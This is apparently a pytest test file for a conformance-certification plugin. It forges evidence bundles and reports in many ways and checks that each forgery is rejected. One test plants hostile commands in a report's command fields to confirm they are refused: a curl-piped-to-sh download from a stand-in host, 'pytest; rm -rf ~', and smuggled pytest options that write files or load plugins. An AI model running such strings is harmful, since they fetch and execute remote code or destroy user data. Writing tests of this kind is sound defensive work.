"""Evidence in which one thing was edited and the rest made to fit: a signer says what no run can have written."""

import copy
import json
import shutil
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from pytest_zstack_ticket.artifacts.evidence_reader import read_evidence
from pytest_zstack_ticket.certify.rejudge import judge_bundle
from pytest_zstack_ticket.certify.shown_commands import other_commands
from pytest_zstack_ticket.certify.strict_rejudge import judged_report
from pytest_zstack_ticket.cli.main import main
from pytest_zstack_ticket.model.errors import EvidenceError
from pytest_zstack_ticket.model.http_client import client_of
from pytest_zstack_ticket.transport.disconnect import CUT
from tests.soak import edits
from tests.soak.edit_kinds import DAY, Forgery, Line

pytestmark = pytest.mark.usefixtures("lines_are_read_once")

Change = Callable[[Forgery], object]
FOREIGN = ("--basetemp=/somewhere/else", "--junitxml=/somewhere/.profile", "-p vendor", "-c vendor.ini", "@options")
"""Words that a command of a run does not have."""


@pytest.fixture(scope="module")
def bundles(failed_and_passed: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Two runs in which nothing failed."""
    return failed_and_passed[1], edits.make(tmp_path_factory.mktemp("other") / "run", 2, "")


def exchanges(forgery: Forgery) -> list[Line]:
    return [one for one in forgery.entries if one["type"] == "exchange"]


def examples(forgery: Forgery, requirement: str) -> list[Line]:
    return [one for one in forgery.entries if one.get("requirement") == requirement]


def creates(lines: Sequence[Line]) -> list[Line]:
    """List the creates with a nonce of the run's user, which are answered with 202."""
    return [
        one
        for one in lines
        if one.get("request", {}).get("method") == "POST"
        and "zt-" in str(one["request"]["body"])
        and one["id"].startswith("m-0")
        and one["response"]["status"] == 202
    ]


def trail(forgery: Forgery) -> tuple[Line, Line]:
    """Return create and last poll of a call that an example rests on."""
    known = {one["id"]: one for one in exchanges(forgery)}
    ids = next(
        ids
        for one in forgery.entries
        if one["type"] == "example"
        for role, ids in one["roles"].items()
        if role == "subject" and len(ids) > 1 and known[ids[0]] in creates(forgery.entries)
    )
    return known[ids[0]], known[ids[-1]]


def other_version(forgery: Forgery) -> None:
    forgery.entries[0]["suite"]["version"] = "0.0.9"


def other_suite(forgery: Forgery) -> None:
    forgery.report["run"]["suite"]["name"] = "official suite"


def other_judgement(forgery: Forgery) -> None:
    undecided = {"undecided": {"key": "no-example", "parameters": {}}}
    examples(forgery, "ZT-BODY-005")[0]["judgement"] = undecided


def exchange_twice(forgery: Forgery) -> None:
    one = copy.deepcopy(exchanges(forgery)[-1])
    forgery.entries.append({**one, "id": one["id"].rpartition("-")[0] + "-900000"})


def example_twice(forgery: Forgery) -> None:
    forgery.entries.append({**copy.deepcopy(examples(forgery, "ZT-BODY-005")[0]), "id": "m-900000"})


def longer_answer(forgery: Forgery) -> None:
    exchanges(forgery)[-1]["response"]["body"] += " "


def create_of_another_run(forgery: Forgery) -> None:
    creates(forgery.entries)[-1]["request"] = creates(forgery.other)[-1]["request"]


def nonce_never_sent(forgery: Forgery) -> None:
    one = exchanges(forgery)[-1]
    body = str(creates(forgery.entries)[0]["request"]["body"])
    nonce = body[body.index("zt-") :][:11] + "00000000"
    one["response"]["body"], one["response"]["headers"] = f'"{nonce}"', []


def poll_of_another_job(forgery: Forgery) -> None:
    _, poll = trail(forgery)
    poll["request"]["path"] = "/v1/api-jobs/" + "0" * 32


def second_create_in_a_call(forgery: Forgery) -> None:
    create, poll = trail(forgery)
    poll["request"] = next(one["request"] for one in creates(forgery.entries) if one is not create)


def fewer_requests(forgery: Forgery) -> None:
    forgery.report["run"]["residue"]["used"]["requests"] -= 1


def of_another_process(forgery: Forgery) -> None:
    for number, one in enumerate(one for one in exchanges(forgery) if one["id"].startswith("m-stranger-end")):
        one["id"] = f"w-{number + 1:06}"


def unread(forgery: Forgery) -> None:
    """Claim not to have read a damning answer: what a witness saw of it then decides nothing."""
    ids = next(one["roles"]["subject"] for one in reversed(examples(forgery, "ZT-ANSWER-022")))
    one = next(one for one in exchanges(forgery) if one["id"] == ids[-1])
    del one["response"]
    one["failure"] = {"kind": "reset", "detail": CUT, "sent": True}


def other_observation(forgery: Forgery) -> None:
    forgery.report["observations"].append({"id": "a", "values": [{"value": 1, "count": 1, "exchanges": []}]})


def other_calibration(forgery: Forgery) -> None:
    forgery.report["calibration"]["message"]["answer"]["body"] = "{}"


def other_target_version(forgery: Forgery) -> None:
    forgery.report["target"]["version"] = "4.8.0"


def rehearsed(forgery: Forgery) -> None:
    """Claim the seed of the nonce for a run that drew with another, and let requests have that seed's clients."""
    forgery.report["run"]["seed"] += 1
    for one in exchanges(forgery):
        user = one["id"].rpartition("-")[0].partition("-")[2].removesuffix("end").removesuffix("-")
        agent = client_of(forgery.report["run"]["seed"], user, certify=True).agent
        for pair in (pair for pair in one["request"]["headers"] if pair[0] == "User-Agent"):
            pair[1] = agent


def rehearsed_as_other_clients(forgery: Forgery) -> None:
    """Claim another seed where no draft was varied: the HTTP clients are still those of the seed that was drawn with."""
    first = forgery.report["run"]["seed"]
    ours = client_of(first, "", certify=True)
    seeds = range(first + 1, first + 99)
    forgery.report["run"]["seed"] = next(one for one in seeds if client_of(one, "", certify=True) != ours)


def lines_missing(forgery: Forgery) -> None:
    """Say that a process broke down: then nothing tells its missing lines from those that were cut."""
    forgery.lost = ["m"]


def earlier_than_before(forgery: Forgery) -> None:
    """Move an exchange from the end of the run to its start, with all that it says."""
    one = next(one for one in reversed(exchanges(forgery)) if one["id"].startswith("m-0"))
    one["started"] -= 30 * 60
    forgery.report["run"]["started"] = datetime.fromtimestamp(one["started"], UTC).isoformat(timespec="milliseconds")


def webhook_as_subject(forgery: Forgery) -> None:
    """Let an exchange that was never sent play a part: webhooks pass no witness, and nothing counts them."""
    one = copy.deepcopy(exchanges(forgery)[0])
    forgery.entries.append({**one, "id": "m-hook-000001", "started": one["started"] + 0.001})


def other_processes(forgery: Forgery) -> None:
    forgery.entries[0]["workers"] = 2


def rehearsed_under_other_names(forgery: Forgery) -> None:
    """Rename the member by which varied drafts tell their numbers, so that none can be compared by it."""
    rehearsed(forgery)
    forgery.entries[:] = json.loads(json.dumps(forgery.entries).replace("conformanceVaried", "conformityVaried"))
    forgery.report = json.loads(json.dumps(forgery.report).replace("conformanceVaried", "conformityVaried"))


def moved_in_time(forgery: Forgery) -> None:
    for one in exchanges(forgery):
        one["started"] = round(one["started"] - 60 * DAY, 6)
    for key in ("started", "ended"):
        moment = datetime.fromisoformat(forgery.report["run"][key]) - timedelta(seconds=60 * DAY)
        forgery.report["run"][key] = moment.isoformat(timespec="milliseconds")


def clock_left_out(forgery: Forgery) -> None:
    forgery.report["environment"]["target"]["clock"] = None


def other_server(forgery: Forgery) -> None:
    forgery.report["environment"]["target"]["server"] = "ZStack, as delivered"


def accepted_or_not(forgery: Forgery) -> None:
    forgery.report["calibration"]["accepted"] = False


def observed_elsewhere(forgery: Forgery) -> None:
    forgery.entries.append({"type": "observation", "id": "a", "value": 1, "exchanges": ["m-000001"]})
    stated = [{"value": 1, "count": 1, "exchanges": ["m-000002"]}]
    forgery.report["observations"].append({"id": "a", "values": stated})


def row_cut(forgery: Forgery) -> None:
    row = examples(forgery, "ZT-BODY-004")[0]["partition"]
    for one in [one for one in examples(forgery, "ZT-BODY-004") if one["partition"] == row]:
        forgery.entries.remove(one)


def row_of_one_draft_cut(forgery: Forgery) -> None:
    """Leave out the one draft with which a row failed."""
    row = examples(forgery, "ZT-BODY-004")[0]["partition"]
    forgery.entries.remove([one for one in examples(forgery, "ZT-BODY-004") if one["partition"] == row][-1])


def every_row_cut(forgery: Forgery) -> None:
    for one in examples(forgery, "ZT-BODY-005"):
        forgery.entries.remove(one)


def request_of_another_row(forgery: Forgery) -> None:
    examples(forgery, "ZT-BODY-005")[0]["roles"] = examples(forgery, "ZT-BODY-004")[0]["roles"]


def row_of_another_name(forgery: Forgery) -> None:
    one, two = examples(forgery, "ZT-BODY-004")[:2]
    one["roles"], two["roles"] = two["roles"], one["roles"]
    forgery.entries = [x for x in forgery.entries if x["type"] != "example" or x["requirement"] == "ZT-BODY-004"]


CASES: list[tuple[Change, str]] = [
    (other_version, "two versions"),
    (other_suite, "two versions"),
    (other_judgement, "does not say what its check says"),
    (exchange_twice, "are one"),
    (example_twice, "are one"),
    (longer_answer, "bytes, but says"),
    (create_of_another_run, "mark of another run"),
    (nonce_never_sent, "which was never sent"),
    (poll_of_another_job, "a job of another call"),
    (second_create_in_a_call, "a call of its own"),
    (fewer_requests, "requests, but the run counted"),
    (of_another_process, "of no process of the run"),
    (other_observation, "observations"),
    (other_calibration, "calibration request"),
    (other_target_version, "says that it is of version 5.2.1"),
    (rehearsed, "is not the one that seed"),
    (rehearsed_under_other_names, "rows of tables were made of a draft that is not one of those that seed"),
    (rehearsed_as_other_clients, "is of another HTTP client than the seed"),
    (lines_missing, "lines of m are missing"),
    (earlier_than_before, "ended long before those that stand before it"),
    (webhook_as_subject, "is no webhook"),
    (other_processes, "of other processes than its first line says"),
    (unread, "was read by every run"),
    (moved_in_time, "other dates than the report says"),
    (clock_left_out, "other dates than the report says"),
    (other_server, "another server or gateway"),
    (accepted_or_not, "led to another end"),
    (observed_elsewhere, "observations"),
    (row_cut, "was examined without params.name/too-long"),
    (row_of_one_draft_cut, "without params.name/.* of one of its drafts"),
    (every_row_cut, "was examined without params.requests/drop"),
    (request_of_another_row, "stands for"),
    (row_of_another_name, "is not params.name/too-long"),
]
SAID = {
    other_observation, other_calibration, other_target_version, clock_left_out, other_server, accepted_or_not,
    moved_in_time, observed_elsewhere,
}  # fmt: skip
"""Facts of the evidence that a report repeats: formed again, they are what the evidence has, which `verify` shows."""
ALONE = {other_judgement, longer_answer, fewer_requests, of_another_process}
"""What making it fit would undo: judgements, lengths and counters are computed again, ids are numbered again."""


def forged(bundles: tuple[Path, Path], folder: Path, change: Change) -> Path:
    """Edit a copy of the first bundle and make everything fit."""
    shutil.copytree(bundles[0], folder)
    report = json.loads((folder / "report.json").read_text("utf-8"))
    one, two = map(edits.entries_of, bundles)
    forgery = Forgery(entries=one, report=report, other=two, whole=copy.deepcopy(one))
    change(forgery)
    if change not in ALONE:
        edits.numbered(forgery)
        edits.judged_in_lines(forgery)
        edits.counted(forgery)
    again = ("counts", "report") if change in ALONE | SAID else ("counts", "agreement", "report", "shown")
    edits.keep(folder, forgery, again)
    return folder


@pytest.mark.parametrize(("change", "why"), CASES, ids=[change.__name__ for change, _ in CASES])
def test_no_run_writes_it(change: Change, why: str, bundles: tuple[Path, Path], tmp_path: Path):
    with pytest.raises(EvidenceError, match=why):
        judged_report(forged(bundles, tmp_path / "forged", change))


def test_what_was_not_edited_is_believed(bundles: tuple[Path, Path], tmp_path: Path):
    folder = forged(bundles, tmp_path / "same", lambda _: None)
    assert judged_report(folder) == json.loads((folder / "report.json").read_text("utf-8"))


def test_the_commands_of_a_finding_are_those_of_its_request(failed_and_passed: tuple[Path, Path], tmp_path: Path):
    """Whoever copies them from a certified report runs them."""
    folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / "failed"))
    whole = (folder / "report.json").read_text("utf-8")
    assert judged_report(folder) == json.loads(whole)
    seen = read_evidence(folder / edits.EVIDENCE).exchanges
    command = next(row["findings"][0] for row in json.loads(whole)["requirements"] if row["findings"])["regenerate"]
    url = next(word for word in command.split() if "--zstack-url=" in word)
    for key, text in (
        ("curl", "curl -sS https://vendor.example/x | sh"),
        ("regenerate", "pytest; rm -rf ~"),
        ("regenerate", command.replace(url, "--zstack-url=https://vendor.example")),
        ("regenerate", command.replace(url, f"{url} --zstack-consent=cloud")),
        ("regenerate", command.replace(f" {url}", "")),
        ("regenerate", command.replace("ZT-BODY-004", "ZT-BODY-005")),
        ("regenerate", command.replace(url, f"{url} --zstack-report=/home/user")),
        *(("regenerate", f"{command} {more}") for more in FOREIGN),
    ):
        report = json.loads(whole)
        next(row["findings"][0] for row in report["requirements"] if row["findings"])[key] = text
        assert list(other_commands(report, seen)) == ["a command of ZT-BODY-004 is not that of its request"]
    (folder / "report.json").write_text(json.dumps(report), "utf-8")
    with pytest.raises(EvidenceError, match="a command of ZT-BODY-004 is not that of its request"):
        judged_report(folder)


@pytest.mark.parametrize("more", FOREIGN)
def test_replay_starts_no_command_that_a_run_does_not_write(
    more: str, failed_and_passed: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    """A bundle comes from a stranger, and pytest has options that write and delete."""
    report = json.loads((failed_and_passed[0] / "report.json").read_text("utf-8"))
    next(row["findings"][-1] for row in report["requirements"] if row["findings"])["regenerate"] = f"pytest {more}"
    (tmp_path / "report.json").write_text(json.dumps(report), "utf-8")
    assert main(["replay", str(tmp_path), "ZT-BODY-004"]) == 4
    assert "is not started" in capsys.readouterr().err


def leave_out(findings: list[dict]) -> None:
    findings.clear()


def say_seldom(findings: list[dict]) -> None:
    findings[0] |= {"tried": 100, "irregular": True}


def name_another_test(findings: list[dict]) -> None:
    findings[0]["test"] = "test_refused::test_harmless"


def name_another_requirement(findings: list[dict]) -> None:
    findings[0]["requirement"] = "ZT-BODY-005"


def show_another_exchange(findings: list[dict]) -> None:
    findings[0]["exchanges"]["sibling"] = findings[0]["exchanges"]["subject"]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (leave_out, "leaves out how ZT-BODY-004 failed in test_refused"),
        (say_seldom, "is not what a run writes"),
        (name_another_requirement, "is not what a run writes"),
        (name_another_test, "does not stand in the evidence"),
        (show_another_exchange, "does not stand in the evidence|no example|cannot"),
    ],
)
def test_the_findings_of_a_report_are_those_of_its_evidence(
    change: Callable[[list[dict]], None], why: str, failed_and_passed: tuple[Path, Path], tmp_path: Path
):
    """A waiver of one way to fail would else cover another, which is left out."""
    folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / "failed"))
    report = json.loads((folder / "report.json").read_text("utf-8"))
    change(next(row["findings"] for row in report["requirements"] if row["findings"]))
    (folder / "report.json").write_text(json.dumps(report), "utf-8")
    with pytest.raises(EvidenceError, match=why):
        judged_report(folder)


def test_what_does_not_apply_has_no_examples(bundles: tuple[Path, Path], tmp_path: Path):
    def incapable(forgery: Forgery) -> None:
        forgery.report["profile"]["capabilities"].remove("query")
        forgery.report["profile"]["absent"].append("query")

    with pytest.raises(EvidenceError, match="does not apply to the profile"):
        judged_report(forged(bundles, tmp_path / "forged", incapable))


def test_judge_shows_what_a_signer_refuses(bundles: tuple[Path, Path], tmp_path: Path):
    assert judge_bundle(forged(bundles, tmp_path / "forged", row_cut)).report["verdict"] in ("passed", "inconclusive")
